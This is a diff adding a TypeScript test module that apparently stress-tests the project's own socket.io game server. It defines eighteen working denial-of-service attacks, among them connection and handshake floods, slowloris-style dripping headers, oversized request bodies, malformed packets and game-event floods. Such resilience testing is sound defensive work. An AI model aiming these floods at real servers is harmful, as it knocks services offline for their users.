@@ -1,0 +1,140 @@
+// The attacks. Each comes from one address with up to a hundred connections, and goes on until its process is stopped.
+import { randomBytes } from "node:crypto";
+import { once } from "node:events";
+import { readFileSync } from "node:fs";
+import type { Socket } from "node:net";
+import { join } from "node:path";
+import { setTimeout as pause } from "node:timers/promises";
+import { PROJECT } from "../support/server.ts";
+import {
+  frame,
+  nextBytes,
+  OPCODE,
+  openPlayer,
+  openTcp,
+  openWebsocket,
+  pour,
+  repeatOn,
+  type Target,
+} from "./support/tcp.ts";
+
+type Attack = (target: Target) => Promise<void>;
+
+const CONNECTIONS = 100;
+const POLLING = "/socket.io/?EIO=4&transport=polling";
+const LIST = frame('42["getAvailableRooms",{}]');
+
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  "connection-flood": (target) =>
+    repeatOn(CONNECTIONS, async () => {
+      const socket = openTcp(target);
+      await once(socket, "connect");
+      socket.resetAndDestroy();
+    }),
+  "handshake-flood": (target) =>
+    repeatOn(CONNECTIONS, async () => void (await openWebsocket(target))?.destroy()),
+  "never-connecting": (target) => repeatOn(CONNECTIONS, () => hold(openWebsocket(target))),
+  "dripping-headers": (target) =>
+    repeatOn(CONNECTIONS, async () => {
+      const socket = openTcp(target);
+      socket.write("GET / HTTP/1.1\r\nHost: localhost\r\n");
+      for (; !socket.destroyed; await pause(1_000)) socket.write("X-Drip: 1\r\n");
+    }),
+  "unread-lobby": (target) =>
+    repeatOn(CONNECTIONS, async () => {
+      const socket = await openPlayer(target);
+      if (socket === undefined) return;
+      for (socket.pause(); !socket.destroyed; await pause(550)) socket.write(LIST);
+    }),
+  "unread-files": (target) =>
+    repeatOn(CONNECTIONS, () => {
+      const socket = openTcp(target).pause();
+      socket.write(`GET ${largestFile()} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(500));
+      return hold(socket);
+    }),
+  "tiny-frames": (target) => flood(target, () => frame("6")),
+  "websocket-pings": (target) => flood(target, () => frame("", 0x80 | OPCODE.ping)),
+  "large-bodies": (target) =>
+    repeatOn(CONNECTIONS, async () => {
+      const sid = await openPolling(target);
+      const socket = openTcp(target).resume();
+      const head = `POST ${POLLING}&sid=${sid} HTTP/1.1\r\nHost: localhost\r\n`;
+      socket.write(`${head}Content-Length: 1000000000000\r\n\r\n`);
+      await pour(socket, Buffer.alloc(65_536, "4"));
+    }),
+  "malformed-packets": (target) =>
+    flood(target, () => frame(`4${randomBytes(9).toString("hex")}[`)),
+  "malformed-requests": (target) =>
+    repeatOn(CONNECTIONS, () =>
+      pour(openTcp(target).resume(), Buffer.from("GET / HTTP/1.1\r\n\r\n")),
+    ),
+  "move-flood": (target) =>
+    callFlood(target, "movePiece", {
+      roomId: "nowhere1",
+      fromRow: 5,
+      fromCol: 0,
+      toRow: 4,
+      toCol: 1,
+    }),
+  "list-flood": (target) => callFlood(target, "getAvailableRooms", {}),
+  "unknown-rooms": (target) => callFlood(target, "joinRoom", { roomId: "nowhere1" }),
+  "room-flood": (target) => callFlood(target, "createRoom", { isPrivate: false }),
+  "play-now-flood": (target) => callFlood(target, "playNow", {}),
+  "seat-grab": (target) =>
+    repeatOn(CONNECTIONS, async () => {
+      const socket = await openPlayer(target);
+      if (socket === undefined) return;
+      for (let call = 0; call < 60 && !socket.destroyed; call += 2) {
+        socket.write(frame(`42${call}["playNow",{}]`));
+        const roomId = /"roomId":"(\w+)"/.exec(await nextBytes(socket))?.[1] ?? "nowhere1";
+        socket.write(frame(`42${call + 1}["leaveRoom",{"roomId":"${roomId}"}]`));
+        await pause(50);
+      }
+      socket.destroy();
+    }),
+  "disconnect-bomb": (target) =>
+    repeatOn(1, async () => {
+      const opened = Array.from({ length: CONNECTIONS }, () => openPlayer(target));
+      const sockets = (await Promise.all(opened)).filter((socket) => socket !== undefined);
+      for (const socket of sockets)
+        for (let call = 0; call < 10; call += 1) sit(socket.resume(), call);
+      await pause(300);
+      for (const socket of sockets) socket.destroy();
+    }),
+};
+
+function sit(socket: { write(bytes: Buffer): void }, call: number): void {
+  socket.write(frame(`42${call}["playNow",{"pace":"${call % 2 === 0 ? "none" : "5+3"}"}]`));
+}
+
+function flood(target: Target, next: () => Buffer): Promise<void> {
+  return repeatOn(CONNECTIONS, async () => {
+    const socket = await openPlayer(target);
+    if (socket !== undefined) await pour(socket.resume(), next());
+  });
+}
+
+function callFlood(target: Target, event: string, payload: object): Promise<void> {
+  return flood(target, () => frame(`421${JSON.stringify([event, payload])}`));
+}
+
+/** Until the server ends the connection. */
+async function hold(opening: Socket | Promise<Socket | undefined>): Promise<void> {
+  const socket = await opening;
+  if (socket !== undefined) await once(socket, "close");
+}
+
+/** The id of a polling session. */
+async function openPolling(target: Target): Promise<string | undefined> {
+  const socket = openTcp(target);
+  socket.write(`GET ${POLLING} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
+  const answer = await nextBytes(socket);
+  socket.destroy();
+  return /"sid":"([^"]+)"/.exec(answer)?.[1];
+}
+
+/** The page's own program, as its index names it. */
+function largestFile(): string {
+  const index = readFileSync(join(PROJECT, "packages/web/dist/index.html"), "utf8");
+  return /\/assets\/[^"]+\.js/.exec(index)?.[0] ?? "/";
+}
